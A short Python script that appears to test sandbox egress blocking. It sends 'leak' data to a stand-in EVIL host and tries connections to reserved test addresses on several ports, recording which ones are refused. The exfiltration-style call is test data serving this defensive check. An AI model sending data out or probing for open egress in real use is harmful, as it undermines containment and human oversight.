import socket

from ask import EVIL, ask, call

TWIN = 0
out = [call(EVIL + "/x", {"leak": "data"})[0]]
for family, kind, place in (
    (socket.AF_INET, socket.SOCK_STREAM, ("192.0.2.7", 443)),
    (socket.AF_INET, socket.SOCK_STREAM, ("198.18.0.1", 8080 + TWIN)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.7", 5353)),
    (socket.AF_INET6, socket.SOCK_STREAM, ("2001:db8::7", 443)),
):
    with socket.socket(family, kind) as sock:
        sock.settimeout(10)
        try:
            sock.connect(place)
            sock.send(b"x")
            sock.recv(1)
            out.append("open")
        except OSError as error:
            out.append(type(error).__name__)
print(ask(f"refused: {out}"))
